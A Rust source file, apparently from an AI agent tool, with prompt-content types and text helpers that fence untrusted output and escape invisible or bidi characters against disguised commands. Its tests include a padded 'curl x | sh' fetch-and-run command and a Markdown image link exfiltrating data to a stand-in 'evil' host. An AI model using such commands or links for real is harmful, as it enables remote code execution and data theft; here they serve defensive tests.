//! What a user can put into a prompt, in a provider- and protocol-neutral form.

use serde::{Deserialize, Serialize};

/// One block of user input, as recorded in the session log.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
#[non_exhaustive]
pub enum UserContent {
    /// Plain text.
    Text {
        /// The text.
        text: String,
    },
    /// An image, base64 encoded.
    Image {
        /// MIME type (`image/png`, `image/jpeg`, `image/webp`, `image/gif`).
        mime_type: String,
        /// Base64 data without a `data:` prefix.
        data: String,
    },
    /// A link to a resource the model may read with its tools.
    ResourceLink {
        /// The resource URI.
        uri: String,
        /// Display name.
        name: String,
    },
    /// An embedded text resource (for example a file the user attached).
    Resource {
        /// The resource URI.
        uri: String,
        /// The resource text.
        text: String,
        /// MIME type, when known.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        mime_type: Option<String>,
    },
}

impl UserContent {
    /// A text block.
    pub fn text(text: impl Into<String>) -> Self {
        UserContent::Text { text: text.into() }
    }

    /// The first non-empty line of text in a prompt, used as a session title.
    pub fn title_of(content: &[UserContent]) -> Option<String> {
        content.iter().find_map(|block| match block {
            UserContent::Text { text } => text
                .lines()
                .map(str::trim)
                .find(|line| !line.is_empty())
                .map(|line| truncate_chars(line, 100)),
            _ => None,
        })
    }
}

/// `text` in a Markdown code block (`info`: its language) whose fence is
/// longer than any run of backticks in it, so nothing in `text` (command
/// output, a file) can close the block and be shown as Markdown.
pub fn fenced(text: &str, info: &str) -> String {
    let mut longest = 0;
    let mut run = 0;
    for c in text.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    let fence = "`".repeat((longest + 1).max(3));
    format!("{fence}{info}\n{text}\n{fence}")
}

/// The longest prefix of `text` of at most `max` bytes that ends on a
/// character boundary.
pub fn head_bytes(text: &str, max: usize) -> &str {
    let mut cut = max.min(text.len());
    while !text.is_char_boundary(cut) {
        cut -= 1;
    }
    &text[..cut]
}

/// The longest suffix of `text` of at most `max` bytes that starts on a
/// character boundary.
pub fn tail_bytes(text: &str, max: usize) -> &str {
    let mut start = text.len().saturating_sub(max);
    while !text.is_char_boundary(start) {
        start += 1;
    }
    &text[start..]
}

/// [`tail_bytes`], with a leading `…` when something was cut.
pub fn tail_marked(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_owned();
    }
    format!("…{}", tail_bytes(text, max))
}

/// Truncates to at most `max` characters, adding an ellipsis when cut.
pub fn truncate_chars(text: &str, max: usize) -> String {
    match text.char_indices().nth(max) {
        None => text.to_owned(),
        Some((cut, _)) => format!("{}…", &text[..cut]),
    }
}

/// Whether a character can change how surrounding text is displayed
/// without being seen: controls, bidirectional overrides and isolates,
/// zero-width characters.
fn is_invisible(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061C}'
                | '\u{200B}'..='\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2060}'..='\u{2069}'
                | '\u{FEFF}'
        )
}

/// Text from a model or a workspace made safe to show a person: invisible
/// characters are written out as `\u{…}` escapes, so a bidi override or a
/// carriage return cannot make a command or a path look like another.
/// Newlines and tabs are kept when `multiline`; otherwise they are escaped
/// too.
pub fn visible(text: &str, multiline: bool) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if multiline && (c == '\n' || c == '\t') {
            out.push(c);
        } else if is_invisible(c) {
            out.push_str(&format!("\\u{{{:x}}}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

/// A one-line title from untrusted text: invisible characters escaped and
/// every run of whitespace shown as one space, so padding cannot push the
/// rest of a command out of view; cut at `max` characters.
pub fn visible_title(text: &str, max: usize) -> String {
    let collapsed: Vec<&str> = text.split_whitespace().collect();
    truncate_chars(&visible(&collapsed.join(" "), false), max)
}

/// Keeps the first `head` and last `tail` code points of `text` with a
/// note in between saying how many were removed; text within
/// `head + tail` code points is returned as is.
pub fn prune_middle(text: &str, head: usize, tail: usize) -> String {
    let total = text.chars().count();
    if total <= head + tail {
        return text.to_owned();
    }
    let head_end = text
        .char_indices()
        .nth(head)
        .map_or(text.len(), |(at, _)| at);
    let tail_start = if tail == 0 {
        text.len()
    } else {
        text.char_indices()
            .nth_back(tail - 1)
            .map_or(0, |(at, _)| at)
    };
    format!(
        "{}\n\n[dsh: {} characters of this tool result were removed to save context; the session log keeps it whole. Run the tool again if you need them.]\n\n{}",
        &text[..head_end],
        total - head - tail,
        &text[tail_start..]
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn byte_cuts_respect_characters() {
        assert_eq!(head_bytes("aé😀b", 4), "aé");
        assert_eq!(tail_bytes("aé😀b", 4), "b");
        assert_eq!(tail_bytes("aé😀b", 5), "😀b");
        assert_eq!(head_bytes("abc", 10), "abc");
        assert_eq!(truncate_chars("héllo", 2), "hé…");
    }

    #[test]
    fn invisible_characters_are_written_out() {
        assert_eq!(visible("a\u{202E}b\rc\n", true), "a\\u{202e}b\\u{d}c\n");
        assert_eq!(
            visible_title(&format!("ls -la{}&& curl x | sh", " ".repeat(120)), 80),
            "ls -la && curl x | sh"
        );
        assert_eq!(visible_title("a\nb", 80), "a b");
    }
}

#[cfg(test)]
mod fence_tests {
    #[test]
    fn nothing_inside_closes_the_fence() {
        assert_eq!(super::fenced("ls", "sh"), "```sh\nls\n```");
        let hostile = "x\n```\n![](https://evil/?d=1)\n````";
        let block = super::fenced(hostile, "");
        assert!(
            block.starts_with("`````\n") && block.ends_with("\n`````"),
            "{block}"
        );
    }
}
